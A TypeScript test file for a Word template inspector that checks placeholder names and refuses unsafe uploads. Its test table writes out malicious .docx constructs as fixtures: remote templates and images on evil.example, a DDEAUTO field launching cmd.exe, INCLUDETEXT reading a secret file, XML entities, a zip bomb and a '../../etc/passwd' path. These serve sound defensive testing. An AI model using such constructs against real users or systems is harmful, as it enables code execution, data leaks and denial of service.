import { describe, expect, test } from 'vitest'
import { everyKind } from '@/lib/report/samples'
import { findingsOf, inspectTemplate, TemplateRefused } from '.'
import { p, table, templateOf, zip } from './testing'

const { template } = everyKind
const inspect = (bytes: Uint8Array) => findingsOf(inspectTemplate(bytes, template), template, 'en')

describe('what an organiser is told', () => {
  test('which placeholders are known, and how often each is there', () => {
    const { known, unknown } = inspect(
      templateOf({
        body:
          p('{{Title}} {{title}}') +
          table(['{{#speakers}}{{name}}', '{{role}}{{/speakers}}']) +
          p('{{section: Conclusion}}'),
        header: p('{{ event }}'),
      }),
    )
    expect(Object.fromEntries(known.map(({ name, times }) => [name, times]))).toEqual({
      title: 2,
      '#speakers': 1,
      name: 1,
      role: 1,
      'section:conclusion': 1,
      event: 1,
    })
    expect(unknown).toEqual([])
  })

  test('which are not, where they are, and what was most likely meant', () => {
    const { unknown } = inspect(
      templateOf({
        body:
          p('{{titel}} {{Sumaries}} {{nom}} {{발표자}} {{country}} {{xyzzy}}') +
          p('{{#speakers}}') +
          p('{{titel}}'),
        footer: p('{{événement}}'),
      }),
    )
    expect(
      unknown.map(({ written, place, suggestion, fault }) => [written, place, suggestion, fault]),
    ).toEqual(
      expect.arrayContaining([
        ['{{titel}}', 'text', 'title', 'unknown'],
        ['{{Sumaries}}', 'text', 'summaries', 'unknown'],
        ['{{nom}}', 'text', 'speaker.name', 'unknown'],
        ['{{발표자}}', 'text', 'speakers', 'unknown'],
        ['{{country}}', 'text', 'speaker.country', 'unknown'],
        ['{{xyzzy}}', 'text', null, 'unknown'],
        ['{{#speakers}}', 'text', null, 'unclosed'],
        ['{{événement}}', 'footer', 'event', 'unknown'],
      ]),
    )
    expect(unknown).toHaveLength(8)
  })

  test('what no report would show: the title, and sections without a place', () => {
    const missing = (body: string) => inspect(templateOf({ body })).missing.map(({ name }) => name)
    expect(missing(p('{{title}}') + p('{{body}}'))).toEqual([])
    expect(missing(p('{{rest}}'))).toEqual(['title'])
    expect(
      missing(p('{{title}} {{date}} {{speaker.name}}') + p('{{text}}') + p('{{#remarks}}x{{/remarks}}')),
    ).toEqual(['picture', 'summaries', 'prompts', 'questions', 'remarks', 'conclusion'])
    expect(inspect(templateOf({ body: p('{{title}}') })).missing).toContainEqual({
      name: 'speakers',
      heading: 'Speakers',
    })
  })
})

const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const external = (type: string, target: string) =>
  `<Relationship Id="rId9" Type="${R}/${type}" Target="${target}" TargetMode="External"/>`
const body = p('{{title}}')
const field = (instruction: string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${instruction.map((one) => `<w:r><w:instrText>${one}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
const utf16 = (text: string) => new Uint8Array(Buffer.from(`\ufeff${text}`, 'utf16le'))
const bomb = zip({ 'word/document.xml': '<x/>', '[Content_Types].xml': ' '.repeat(5_000_000) })

/** The size that the directory says the first entry has. */
function lying(bytes: Uint8Array, size: number): Uint8Array {
  const copy = new Uint8Array(bytes)
  const view = new DataView(copy.buffer)
  for (let at = 0; at < copy.length - 4; at++)
    if (view.getUint32(at, true) === 0x02014b50) {
      view.setUint32(at + 24, size, true)
      return copy
    }
  return copy
}

test.each<[string, Uint8Array, string]>([
  ['text', new TextEncoder().encode('{{title}}'), 'word-not-docx'],
  ['another zip', zip({ mimetype: 'application/vnd.oasis.opendocument.text' }), 'word-not-docx'],
  [
    'a spreadsheet',
    templateOf({ body, main: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml' }),
    'word-not-docx',
  ],
  [
    'a strict document',
    templateOf({
      body,
      files: {
        '_rels/.rels':
          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
      },
    }),
    'word-strict',
  ],
  ['Word’s old format', new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1]), 'word-old-or-protected'],
  [
    'a document with macros',
    templateOf({ body, main: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
    'word-macros',
  ],
  [
    'macros under another name',
    templateOf({
      body,
      relationships:
        '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="harmless.bin"/>',
      files: { 'word/harmless.bin': 'x' },
    }),
    'word-macros',
  ],
  [
    'an attached template',
    templateOf({
      body,
      files: {
        'word/_rels/settings.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${external('attachedTemplate', 'http://evil.example/t.dotm')}</Relationships>`,
      },
    }),
    'word-external',
  ],
  [
    'a remote picture',
    templateOf({ body, relationships: external('image', 'http://evil.example/x.png') }),
    'word-external',
  ],
  [
    'a link to a file share',
    templateOf({ body, relationships: external('hyperlink', 'file://evil.example/share') }),
    'word-external',
  ],
  [
    'a field that starts a program',
    templateOf({ body: body + field(['DD', 'EAUTO c:\\\\windows\\\\system32\\\\cmd.exe']) }),
    'word-external',
  ],
  [
    'a field that reads a file',
    templateOf({ body: `${body}<w:p><w:fldSimple w:instr=" INCLUDETEXT c:\\secret.txt "/></w:p>` }),
    'word-external',
  ],
  [
    'an object of another program',
    templateOf({ body, relationships: `<Relationship Id="rId9" Type="${R}/oleObject" Target="o.bin"/>` }),
    'word-embedded',
  ],
  [
    'another document within',
    templateOf({ body, relationships: `<Relationship Id="rId9" Type="${R}/aFChunk" Target="c.html"/>` }),
    'word-embedded',
  ],
  [
    'entities',
    templateOf({ body, files: { 'word/theme.xml': '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>' } }),
    'word-dtd',
  ],
  [
    'entities in UTF-16',
    templateOf({ body, files: { 'word/theme.xml': utf16('<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>') } }),
    'word-dtd',
  ],
  ['a zip bomb', bomb, 'word-too-big'],
  ['an entry that says less than it holds', lying(bomb, 10), 'word-too-big'],
  [
    'too many entries',
    zip(Object.fromEntries(Array.from({ length: 2100 }, (_, index) => [`${index}`, '']))),
    'word-too-big',
  ],
  ['half a file', templateOf({ body }).slice(0, 900), 'word-broken'],
  ['a part that is no XML', templateOf({ body: '<w:p>' }), 'word-broken'],
  ['a name that leads elsewhere', templateOf({ body, files: { '../../etc/passwd': 'x' } }), 'word-broken'],
  [
    'elements without end',
    templateOf({ body: `${'<w:p>'.repeat(2000)}${'</w:p>'.repeat(2000)}` }),
    'word-broken',
  ],
])('%s is refused', (_, bytes, code) => {
  expect(() => inspectTemplate(bytes, template)).toThrow(TemplateRefused)
  try {
    inspectTemplate(bytes, template)
  } catch (error) {
    expect(error).toMatchObject({ code, message: expect.stringMatching(/^This .+\.$/) })
  }
})

test('a plain link, and a template for documents (.dotx), are fine', () => {
  const main = 'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml'
  const relationships = external('hyperlink', 'https://example.org/')
  expect(inspect(templateOf({ body, main, relationships })).known).toEqual([{ name: 'title', times: 1 }])
})
